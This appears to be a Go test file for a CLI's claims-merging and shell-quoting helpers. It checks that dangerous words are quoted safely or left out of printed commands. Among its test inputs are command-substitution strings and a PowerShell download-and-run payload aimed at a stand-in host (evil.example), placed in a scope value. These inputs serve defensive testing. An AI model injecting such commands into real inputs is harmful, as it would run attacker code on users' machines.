package host

import (
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
)

func TestMergeClaims(t *testing.T) {
	cases := []struct{ name, base, more, want string }{
		{"nothing", "", "", ""},
		{"the caller's", `{"a":1}`, "", `{"a":1}`},
		{"the provider's, on one line", "", "{\n \"a\": 1\n}", `{"a":1}`},
		{"both", `{"t":{"a":1,"b":1}}`, `{"t":{"b":2,"c":3},"u":null}`, `{"t":{"a":1,"b":2,"c":3},"u":null}`},
		{"what reorders text is escaped", "", "{\"a\":\"\u202e\U0001f600\"}", `{"a":"\u202e\ud83d\ude00"}`},
		{"no JSON", `{"a":1}`, "AADSTS50076", `{"a":1}`},
		{"no object", `{"a":1}`, `["a"]`, `{"a":1}`},
		{"null", `{"a":1}`, `null`, `{"a":1}`},
		{"too long", `{"a":1}`, `{"b":"` + strings.Repeat("b", maxClaims) + `"}`, `{"a":1}`},
		{"too long together", `{"a":"` + strings.Repeat("a", maxClaims/2) + `"}`, `{"b":"` + strings.Repeat("b", maxClaims/2) + `"}`,
			`{"a":"` + strings.Repeat("a", maxClaims/2) + `"}`},
	}
	for _, c := range cases {
		if got := mergeClaims(c.base, c.more); got != c.want {
			t.Errorf("%s: got %s, want %s", c.name, got, c.want)
		}
	}
}

func FuzzMergeClaims(f *testing.F) {
	f.Add(`{"access_token":{"acrs":{"value":"c1"}}}`)
	f.Add("{\"a\":\"\u2028\x7f\"}")
	f.Fuzz(func(t *testing.T, more string) {
		const base = `{"access_token":{"nbf":{"value":"1"}}}`
		for _, got := range []string{mergeClaims(base, more), mergeClaims("", more)} {
			if got == "" {
				continue
			}
			if !json.Valid([]byte(got)) || len(got) > maxClaims || strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r > '~' }) {
				t.Errorf("%q became %q", more, got)
			}
		}
	})
}

// A word that a Windows shell could take for more than a word is not quoted at
// all.
func TestQuote(t *testing.T) {
	cases := []struct{ word, posix, windows string }{
		{"https://a/.default", "https://a/.default", "https://a/.default"},
		{"", "''", `""`},
		{"a b", "'a b'", `"a b"`},
		{`C:\Users\a b\x.toml`, `'C:\Users\a b\x.toml'`, `"C:\Users\a b\x.toml"`},
		{`C:\a b\`, `'C:\a b\'`, ""},
		{"it's", `'it'\''s'`, ""},
		{`{"a":1}`, `'{"a":1}'`, ""},
		{"$(x)", "'$(x)'", ""},
		{"a&b", "'a&b'", ""},
		{"%PATH%", "'%PATH%'", ""},
	}
	for _, c := range cases {
		if got, ok := quote(c.word, "linux"); !ok || got != c.posix {
			t.Errorf("%q: got %s, want %s", c.word, got, c.posix)
		}
		if got, ok := quote(c.word, "windows"); ok != (c.windows != "") || ok && got != c.windows {
			t.Errorf("%q on Windows: got %s, %v, want %s", c.word, got, ok, c.windows)
		}
	}
	l := Login{Profile: "work", Scopes: []string{"$(iex(irm(evil.example)))/.default"}}
	if got, want := l.command("windows"), "authlatch login -p work --scope SCOPE"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

// A real shell reads the words as they are.
func TestQuoteForAShell(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh here")
	}
	for _, word := range []string{"plain", "", "two words", "o'brien", `"`, `back\slash`, "$HOME", "`id`", "a;b", "*", "ü", `{"a":"b c"}`, "~", "-x", "!"} {
		quoted, _ := quote(word, "linux")
		out, err := exec.CommandContext(t.Context(), sh, "-c", "printf %s "+quoted).Output()
		if err != nil || string(out) != word {
			t.Errorf("%s is read as %q (%v), not %q", quoted, out, err, word)
		}
	}
}
